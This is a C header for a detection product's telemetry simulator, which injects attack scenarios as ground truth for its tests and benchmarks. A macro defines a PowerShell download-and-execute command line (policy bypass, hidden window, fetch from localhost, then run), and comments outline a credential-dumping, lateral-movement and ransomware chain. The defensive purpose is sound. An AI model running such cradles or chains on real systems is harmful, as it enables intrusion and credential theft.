/*
 * sim.h - vigil's one telemetry generator: realistic, deterministic EDR telemetry for
 * many machines, with known attack scenarios injected as ground truth. Used by
 * `vigil simulate` (produce to Kafka), `make demo`, the tests and `vigil bench`.
 *
 * Output is a stream of TelemetryBatch messages as sensors send them: each batch holds up
 * to events_per_batch events of one machine, with strictly increasing per-machine
 * sequence numbers and non-decreasing event times; batches of different machines come in
 * the order of their first event's time. The same options give byte-identical batches.
 *
 * Machines are cheap: a machine's state is a fixed struct (bench_sim_state_bytes says how
 * much), its boot-time processes are derived from its number on demand and only the few
 * processes it started during the run are stored, so a million machines fit in memory.
 *
 * THREAD SAFETY: a bench_sim belongs to one thread at a time. Distinct bench_sim objects
 * are independent (no global state), so several threads may each run their own.
 */
#ifndef VG_BENCH_SIM_H
#define VG_BENCH_SIM_H

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>

#include "telemetry.pb-c.h"
#include "vg.h"

/* The reference tests the product documents, and the alerts they must raise. */
#define BENCH_SIM_WIN_REF_IMAGE  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define BENCH_SIM_WIN_REF_PARENT "C:\\Windows\\System32\\cmd.exe"
#define BENCH_SIM_WIN_REF_CMDLINE                                                                  \
    "powershell.exe -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden (New-Object "              \
    "System.Net.WebClient).DownloadFile('http://127.0.0.1/1.exe', "                                \
    "'C:\\\\test-MDATP-test\\\\invoice.exe'); Start-Process "                                      \
    "'C:\\\\test-MDATP-test\\\\invoice.exe'"
#define BENCH_SIM_WIN_REF_FILE    "C:\\test-MDATP-test\\invoice.exe"
#define BENCH_SIM_WIN_REF_TITLE   "Suspicious PowerShell command line"
#define BENCH_SIM_LNX_REF_IMAGE   "/usr/bin/bash"
#define BENCH_SIM_LNX_REF_CMDLINE "bash /tmp/mde_linux_edr_diy.sh"
#define BENCH_SIM_LNX_REF_TITLE   "Enumeration of files with sensitive data"

/* What the generator emits, for its statistics. */
enum bench_sim_kind {
    BENCH_SIM_PROC_CREATE = 0,
    BENCH_SIM_PROC_EXIT,
    BENCH_SIM_FILE,
    BENCH_SIM_NETWORK,
    BENCH_SIM_DNS,
    BENCH_SIM_REGISTRY,
    BENCH_SIM_LOGON,
    BENCH_SIM_IMAGE_LOAD,
    BENCH_SIM_SOFTWARE,
    BENCH_SIM_KIND__COUNT
};

/* Injected scenarios, one per expected alert. The three CHAIN parts of one attack share a
 * chain number and a tenant, on three different Windows machines (download and credential
 * dumping on the first, lateral movement onto the second, ransomware on the third). What
 * ties them together is what ties a real intrusion together: the domain account of the
 * first machine's user, dumped from its LSASS, logs on over the network to the second
 * (from the first's address) and the third (from the second's), and the programs the
 * attacker starts there (the command PsExec runs, the ransomware service) run under it. */
enum bench_scen {
    BENCH_SCEN_WIN_REF = 0,    /* cmd -> powershell download cradle; Informational */
    BENCH_SCEN_LNX_REF,        /* mde_linux_edr_diy.sh enumerates secrets; Low */
    BENCH_SCEN_CHAIN_DOWNLOAD, /* winword -> powershell -enc, download and drop */
    BENCH_SCEN_CHAIN_CREDDUMP, /* dropped procdump dumps lsass */
    BENCH_SCEN_CHAIN_LATERAL,  /* services.exe starts a binary dropped over SMB */
    BENCH_SCEN_CHAIN_RANSOM,   /* 200 renames to *.locked */
    BENCH_SCEN__COUNT
};

/* Scenario run kinds for bench_sim_opts.scenario_mask (bit 1 << run kind). A chain is one
 * run kind: it brings all four CHAIN truths. */
#define BENCH_SIM_RUN_WIN_REF (1u << 0)
#define BENCH_SIM_RUN_LNX_REF (1u << 1)
#define BENCH_SIM_RUN_CHAIN   (1u << 2)

struct bench_sim_opts {
    uint64_t seed;
    uint32_t machines;   /* 1 .. 2^24 */
    uint32_t tenants;    /* "tenant-1".."tenant-T"; machine i is in i % T */
    double linux_share;  /* fraction of Linux machines, 0..1 */
    int64_t start_us;    /* simulated start, Unix us */
    int64_t duration_us; /* simulated length (< 6 days); bench_sim_next ends after it */
    double events_per_machine_per_sec; /* mean rate of each machine */
    uint32_t events_per_batch;         /* most events in one batch */
    int64_t batch_span_us;             /* a sensor flushes a batch at most this long after
                                          its first event */
    bool scenarios;                    /* inject the scenarios */
    int64_t scenario_start_us;         /* offset of the first round from start_us */
    int64_t scenario_every_us;         /* a new round this often; 0: one round */
    uint32_t scenario_tenants;         /* rounds cover tenants 1..this; 0: all */
    uint32_t scenario_mask;            /* BENCH_SIM_RUN_* bits; 0: all */
};

/* Defaults: seed 1, 1,000 machines, 10 tenants, 30 % Linux, start 2026-01-05T08:00:00Z,
 * 20 s, 5 events/s per machine, 32 events a batch, 1 s span, scenarios on from 2 s, one
 * round over every tenant. In a round, for each tenant: the Windows reference test at
 * +0 s, the Linux one at +0.5 s, the chain at +1 s, +4 s and +7 s (tenants staggered by
 * 10 ms). A 20 s run with the defaults therefore shows every scenario. */
void bench_sim_opts_default(struct bench_sim_opts *o);

typedef struct bench_sim bench_sim;

/* Makes a generator. Returns 0 and *out, or -VG_EINVAL for options out of range (explained
 * in errbuf, which may be NULL) or -VG_ENOMEM. Free with bench_sim_free. */
int bench_sim_new(const struct bench_sim_opts *o, bench_sim **out, char *errbuf, size_t errlen);
void bench_sim_free(bench_sim *s);

/*
 * The next batch in simulated time order: one machine's events. Everything it points to
 * lives in the arena a or in the generator's read-only tables (constant strings that
 * outlive the generator: program images, paths), so the batch is valid until a is reset;
 * treat it as read-only. Returns 1 and *out, 0 when the simulated duration has ended, or
 * -VG_ENOMEM when the arena ran out (the generator has then lost that batch and is no
 * longer deterministic).
 */
int bench_sim_next(bench_sim *s, vg_arena *a, Vigil__TelemetryBatch **out);

/* Packs a batch into bytes allocated from a. Returns 0, or -VG_ENOMEM. */
int bench_sim_pack(const Vigil__TelemetryBatch *b, vg_arena *a, uint8_t **buf, size_t *len);

/* Ground truth: one record per expected alert of an injected scenario. */
struct bench_sim_truth {
    enum bench_scen kind;
    uint32_t chain;       /* run number; the CHAIN parts of one attack share it */
    const char *tenant;   /* "tenant-3" */
    const char *machine;  /* machine id */
    const char *title;    /* expected alert title (of the rules in rules/) */
    const char *severity; /* "Informational", "Low", "Medium", "High" */
    int64_t planned_us;   /* when the scenario was scheduled */
    bool emitted;         /* its triggering event has been generated */
    int64_t ts_us;        /* time of the triggering event, once emitted */
    uint64_t seq;         /* its sequence number on the machine, once emitted */
};

size_t bench_sim_truth_count(const bench_sim *s);
/* Record i (< bench_sim_truth_count), owned by s; updated as the run proceeds. */
const struct bench_sim_truth *bench_sim_truth_get(const bench_sim *s, size_t i);
const char *bench_scen_name(enum bench_scen k);

struct bench_sim_stats {
    uint64_t batches;
    uint64_t events;
    uint64_t by_kind[BENCH_SIM_KIND__COUNT];
    uint64_t scenario_events; /* of events, those a scenario wrote */
};

void bench_sim_stats(const bench_sim *s, struct bench_sim_stats *out);
const char *bench_sim_kind_name(enum bench_sim_kind k);
/* Bytes of state the generator holds (machines, schedule, tables, ground truth), to
 * check that memory per machine stays small. */
size_t bench_sim_state_bytes(const bench_sim *s);
/* Bytes of state one machine costs (its struct and its schedule entry). */
size_t bench_sim_machine_bytes(void);

#endif /* VG_BENCH_SIM_H */
